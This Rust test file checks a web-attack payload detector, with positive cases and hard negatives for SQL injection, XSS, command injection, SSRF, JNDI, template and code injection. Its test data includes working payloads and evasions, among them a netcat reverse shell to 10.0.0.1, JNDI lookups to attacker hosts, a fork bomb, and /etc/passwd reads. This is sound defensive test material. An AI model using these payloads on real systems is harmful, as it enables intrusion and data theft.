//! Payload detectors through the public API: positives and hard negatives per family.

mod common;

use common::*;
use sentrace_core::TenantId;
use sentrace_detect::{Detector, Family};

#[test]
fn positives_per_family() {
    let d = Detector::with_default_rules().unwrap();
    let cases: &[(Family, &[&str])] = &[
        (
            Family::Sqli,
            &[
                "1' or '1'='1",
                "1 UNION SELECT null,version()--",
                "'; DROP TABLE users--",
            ],
        ),
        (
            Family::Xss,
            &[
                "<script>alert(1)</script>",
                "\" onmouseover=\"alert(1)",
                "<svg/onload=confirm`1`>",
            ],
        ),
        (
            Family::PathTraversal,
            &[
                "../../../etc/passwd",
                "..%2f..%2f..%2fetc%2fshadow",
                "php://filter/convert.base64-encode/resource=index",
                "C:\\Windows\\win.ini",
            ],
        ),
        (
            Family::Cmdi,
            &[
                "; cat /etc/passwd",
                "$(whoami)",
                "`id`",
                "127.0.0.1 && c'a't /etc/hosts",
                "|nc -e /bin/sh 10.0.0.1 4444",
            ],
        ),
        (
            Family::Ssrf,
            &[
                "http://169.254.169.254/latest/meta-data/",
                "http://[::1]:8080/admin",
                "gopher://127.0.0.1:6379/_",
                "http://0x7f000001/",
            ],
        ),
        (
            Family::Jndi,
            &[
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:rmi://x/y}",
                "java.lang.Runtime",
            ],
        ),
        (
            Family::Ssti,
            &[
                "{{7*7}}",
                "{{config.__class__.__init__.__globals__}}",
                "${7*7}",
                "<%= system('id') %>",
                "{% import os %}",
            ],
        ),
        (
            Family::Xxe,
            &[
                "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            ],
        ),
        (
            Family::Nosql,
            &[
                "{\"$ne\": null}",
                "user[$ne]=x",
                "';return this.password == 'a",
            ],
        ),
    ];
    for (fam, values) in cases {
        for v in *values {
            assert_flags(&d, *fam, v);
        }
    }
}

#[test]
fn hard_negatives() {
    let d = Detector::with_default_rules().unwrap();
    for v in [
        "O'Brien",
        "Where's the nearest store? Open 9-5",
        "select a color from the menu",
        "price < 50 & rating > 4",
        "https://www.example.com/products?id=42&ref=home",
        "Tom & Jerry; cartoon",
        "{\"name\":\"Alice\",\"age\":31,\"tags\":[\"a\",\"b\"]}",
        "# Heading\n\n* item one\n* item two\n\n`code` and **bold**",
        "$19.99",
        "I'll be there at 5 o'clock; call me",
        "C# and F# developers",
        "1/2 cup sugar, 3/4 cup flour",
        "rock & roll | jazz",
        "user@example.com",
        "see section 3.2.1 of the docs",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "2024-01-15T10:30:00Z",
        "<p>Hello <b>world</b></p>",
        "and/or",
        "50% off -- today only",
        "ls the list",
        "Don't {forget} the [brackets]",
        "a=b; c=d",
        "version 10.0.0.1 is out",
    ] {
        assert_clean(&d, v);
    }
}

#[test]
fn evasions_and_new_syntax_classes() {
    let d = Detector::with_default_rules().unwrap();
    let cases: &[(Family, &str)] = &[
        // Shell: empty substitutions and unset variables inside words, quoting, flags.
        (Family::Cmdi, r"x;c$u\at /et$u\c/pas$u\swd"),
        (Family::Cmdi, "una$$me -a"),
        (Family::Cmdi, "ping`` 127.0.0.1"),
        (Family::Cmdi, "kill '-'9"),
        (Family::Cmdi, "() { :; }; echo vulnerable"),
        (Family::Cmdi, ".(){ .|.& };."),
        (Family::Cmdi, "a=/etc&&b=/passwd&&c=cat&&$c $a$b"),
        (Family::Cmdi, "dd if=/etc/passwd of=/tmp/x"),
        (Family::Cmdi, "find /etc -name passwd -exec cat {} ;"),
        (Family::Cmdi, "for /f %variable in ('command') do command"),
        (Family::Cmdi, "if not %1 == \"\" ("),
        (Family::Cmdi, "x&bcdboot /r file.txt"),
        (Family::Cmdi, "alias -p x=id"),
        // SQL statements, catalogs and casts.
        (Family::Sqli, "x;INSERT INTO users (name) VALUES"),
        (Family::Sqli, "from `db`.`users` limit 1"),
        (Family::Sqli, "1; exec xp_dirtree '\\\\evil\\a'"),
        (Family::Sqli, "x; SET @a = 0x41"),
        (Family::Sqli, "1;drop"),
        (Family::Sqli, "id=(select"),
        (Family::Sqli, "FROM t WHERE name=\"x\""),
        (Family::Sqli, "OR '{\"a\":\"b\"}' ? 'a'"),
        // Java: serialization header in short base64, JSP upload, gadget names.
        (Family::Jndi, "rO0ABQ"),
        (Family::Jndi, "shell.jspx."),
        // Code: PHP calls hidden by comments, variable functions, JS loops, node-serialize.
        (Family::CodeInjection, "exec#comment\n (ls)"),
        (Family::CodeInjection, "$_x[@5]/*a*/[@d] ()"),
        (Family::CodeInjection, "while(!undefined)"),
        (
            Family::CodeInjection,
            "\\u0058\\u0079QkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK",
        ),
        (Family::CodeInjection, "shell.php..."),
        (Family::CodeInjection, "array_diff ("),
        (Family::CodeInjection, "checkdate/*x*/()"),
        (Family::CodeInjection, "(sy.(st).em)('uname');"),
        (Family::CodeInjection, "(/* c */system)(ls);"),
        // XSS for a 7-bit decoder.
        (Family::Xss, "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}"),
        // Restricted files.
        (Family::PathTraversal, "/wp-content/debug.log"),
        (Family::PathTraversal, "/backup.sql.zip"),
    ];
    for (fam, v) in cases {
        assert_flags(&d, *fam, v);
    }
    // Near misses of the same classes.
    for v in [
        "Please select one (select a size)",
        "Lunch; update me later",
        "trade union all members",
        "costs $5 or us$10",
        "echo $HOME",
        "for each item in (list) do it",
        "if a == b then c",
        "report.pdf",
        "/index.php",
        "/logs/app.log",
        "Products",
        "¼ cup sugar, ½ tsp salt",
        "from home where name is ok",
        "see (the list)(1) below",
        "is_active (optional)",
        "my_function name",
        "kitchen data when from temp Order by Friday for delivery on Monday.",
    ] {
        assert_clean(&d, v);
    }
}

#[test]
fn command_and_code_injection_techniques() {
    let d = Detector::with_default_rules().unwrap();
    let cases: &[(Family, &str)] = &[
        // Quoting that only a shell removes: a word cut into letters, `\"` before a
        // sqlite3 dot-command, `${x}` glued to a command word, an escaped line break.
        (Family::Cmdi, r#"""p""y""t""h""o""n""3"" ""c""m""d"""#),
        (Family::Cmdi, r#"1;.\"shell whoami"#),
        (Family::Cmdi, r";\n.databases"),
        (Family::Cmdi, "echo | ${gcc7.4}gcc7.4"),
        (Family::Cmdi, "x; python3.10 -c 'import os'"),
        // Glob brackets that stand for one character, brace expansion, editor escapes.
        (Family::Cmdi, "/[e///]tc"),
        (Family::Cmdi, "cat /etc/[!abc]asswd"),
        (Family::Cmdi, r"{n$u\c$u,-nlvp,777}"),
        (Family::Cmdi, r";ex -c:\!pwd"),
        (Family::Cmdi, r";vim -c ':!id'"),
        // Programs with no meaning in prose; a shell run on a script file.
        (Family::Cmdi, "time; cscli alerts list"),
        (Family::Cmdi, "aa-disable php-fpm"),
        (Family::Cmdi, "x && aa-teardown"),
        (Family::Cmdi, "chef report nodes"),
        (Family::Cmdi, "chef generate cookbook cookbooks/web"),
        (Family::Cmdi, "chef exec rspec --format doc"),
        (Family::Cmdi, "chef gem install knife-ec2"),
        (Family::Cmdi, "arg=;gcc10.1<<<void main(){}"),
        (Family::Cmdi, ";.shell id"),
        (Family::Cmdi, "1;.output /tmp/x"),
        (Family::Cmdi, ".tables"),
        (Family::Cmdi, "pipx install something"),
        (Family::Cmdi, "rc script.sh"),
        // Mail protocol commands after a line break: SASL initial response, tagged QUIT.
        (Family::Cmdi, "%0d%0aAUTH PLAIN AGJvYgBzZWNyZXQ="),
        (Family::Cmdi, "&#13;&#10;A1 QUIT"),
        (
            Family::Cmdi,
            "x\r\nAUTH XOAUTH2 dXNlcj1ib2IBYXV0aD1CZWFyZXIgeHl6AQE=",
        ),
        (
            Family::Cmdi,
            "x\r\nAUTH SCRAM-SHA-1 biwsbj11c2VyLHI9ZnlrbytkMmxiYkZnT05Sdjlx",
        ),
        (
            Family::Cmdi,
            "x\r\nauth x-custom biwsbj11c2VyLHI9ZnlrbytkMmxi",
        ),
        (Family::Cmdi, "x\r\nA2 RSET"),
        (Family::Cmdi, "{l,-lh}s"),
        (
            Family::Cmdi,
            "\r\nAUTH corerulest dGhpc2lzIWF0ZXN0cGFzc3dvcmQ=",
        ),
        (Family::Cmdi, "x\r\na3 NOOP"),
        // PHP: tags, upload names, php.ini directives; JS and React Flight gadgets.
        (Family::CodeInjection, "code[\\php]"),
        (Family::CodeInjection, "<?xml ();echo 1;"),
        (Family::CodeInjection, "uploads/avatar.phtml"),
        (Family::CodeInjection, "uploads/shell.php5"),
        (Family::CodeInjection, "allow_url_include=1"),
        (
            Family::CodeInjection,
            "opcache.jit_max_polymorphic_calls=50",
        ),
        (Family::CodeInjection, "auto_prepend_file=php://input"),
        (Family::CodeInjection, "console[\"info\"](1)"),
        (
            Family::CodeInjection,
            r#"{"then":"$1:__proto__:then","0":"$7:Module:prototype"}"#,
        ),
    ];
    for (fam, v) in cases {
        assert_flags(&d, *fam, v);
    }
    // Near misses: CSV quoting, route parameters, prose after `;`, versions, settings.
    for v in [
        r#"He said ""hi"" to me"#,
        r#""a","b","c","d""#,
        "rock'n'roll",
        r#"Score: 1"2"3"4"5"#,
        "/pages/[id]/edit",
        "/docs/[a/b]/x",
        "Lunch; view the menu !now",
        "Great; ex boyfriend says hi!",
        "We support Python 3.11; php8 and node18",
        "fish and chips",
        "Buy chargers & aa-batteries today",
        "chef report: nodes of flavour",
        "Chef reports on new menus",
        "memory: 512M",
        // PHP downloads, test files and resource limits.
        "getcomposer.org/download/latest-stable/composer.phar",
        "tests/unit/foo.phpt",
        "memory_limit=512M",
        "memory_limit = 512M",
        "max_execution_time=300",
        // chef as a cook; versions listed after `; `; jq, SCSS and data near shell syntax.
        "chef generate recipe ideas",
        "chef gem recipes",
        "chef exec summary for the kitchen",
        "Runtime: python3.11; node18.17",
        "Tested on gcc9.4; clang14.0",
        ".items[] | .output",
        "&.output { color: red }",
        ".tables are booked",
        "{\"a\", -1}",
        "{a, -b}",
        // `AUTH` and a token in prose: the mechanism is a lower-case word.
        "Hi\r\nAuth token eyJhbGciOiJIUzI1NiJ9",
        "Notes:\nauth key Xk9mP2qR7sT4vW8yZ1aB3cD5eF6gH0jL",
        "Hi\r\nAuth header QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
        "session.timeout=30",
        "engine=true",
        "admin/index.php",
        "docs/guide.html",
        "<?xml version=\"1.0\"?><a/>",
        "console [beta] (2024)",
        "\"$12: prototype board\"",
        "Hi\r\nAuth failed for user bob\r\nThanks",
        "Team\r\nA1 quit early",
    ] {
        assert_clean(&d, v);
    }
}

#[test]
fn inspect_reports_span_ids_and_minimized_evidence() {
    let d = Detector::with_default_rules().unwrap();
    let t = TenantId::new("acme").unwrap();
    let rs = vec![batch(
        "shop",
        vec![
            server(
                7,
                1,
                vec![
                    kv("url.path", "/search"),
                    kv("url.query", "q=1234'%20OR%20'1'%3D'1&secret=hunter2"),
                    kv("client.address", "203.0.113.9"),
                    kv("http.request.method", "GET"),
                ],
            ),
            server(
                8,
                2,
                vec![
                    kv("url.path", "/search"),
                    kv("url.query", "q=shoes"),
                    kv("http.request.method", "GET"),
                ],
            ),
        ],
    )];
    let findings = d.inspect(&t, &rs, 1);
    assert!(!findings.is_empty());
    assert!(
        findings
            .iter()
            .all(|f| f.evidences[0].span_id.unwrap().to_hex() == "0101010101010101")
    );
    let f = findings
        .iter()
        .find(|f| f.rule_id == "sqli-tokenizer")
        .expect("tokenizer finding");
    assert_eq!(f.family, Family::Sqli);
    assert_eq!(f.subject.client_address.as_deref(), Some("203.0.113.9"));
    assert_eq!(f.evidences[0].attribute, "url.query");
    assert_eq!(f.evidences[0].snippet, "0000' OR '0'='0");
    let ocsf = serde_json::to_string(&f.to_ocsf()).unwrap();
    assert!(
        !ocsf.contains("1234") && !ocsf.contains("hunter2"),
        "{ocsf}"
    );
    assert!(ocsf.contains("07070707070707070707070707070707"));
}

#[test]
fn a_value_repeated_across_spans_is_reported_on_each() {
    // Values are scanned once per batch and the result reused: every span that carries
    // the value still gets its own finding, and the same value as a name or in another
    // attribute is judged on its own.
    let d = Detector::with_default_rules().unwrap();
    let t = TenantId::new("acme").unwrap();
    let ua = "Mozilla/5.0 ${jndi:ldap://203.0.113.7/a}";
    let spans = (1..=3u8)
        .map(|i| {
            server(
                i,
                i,
                vec![
                    kv("url.path", "/search"),
                    kv("user_agent.original", ua),
                    kv("url.query", "q=long+clean+search+words"),
                ],
            )
        })
        .collect();
    let findings = d.inspect(&t, &[batch("shop", spans)], 1);
    let mut spans_hit: Vec<String> = findings
        .iter()
        .filter(|f| f.family == Family::Jndi)
        .filter_map(|f| f.evidences[0].span_id.map(|s| s.to_hex()))
        .collect();
    spans_hit.sort();
    spans_hit.dedup();
    assert_eq!(spans_hit.len(), 3, "{findings:?}");
    assert!(
        findings
            .iter()
            .all(|f| f.evidences[0].attribute == "user_agent.original"),
        "{findings:?}"
    );
}

#[test]
fn client_spans_are_not_payload_inputs() {
    let d = Detector::with_default_rules().unwrap();
    let t = TenantId::new("acme").unwrap();
    let rs = vec![batch(
        "shop",
        vec![common::span(
            1,
            1,
            None,
            sentrace_core::proto::trace::v1::span::SpanKind::Client,
            vec![kv("url.query", "q=<script>alert(1)</script>")],
        )],
    )];
    assert!(d.inspect(&t, &rs, 1).is_empty());
}
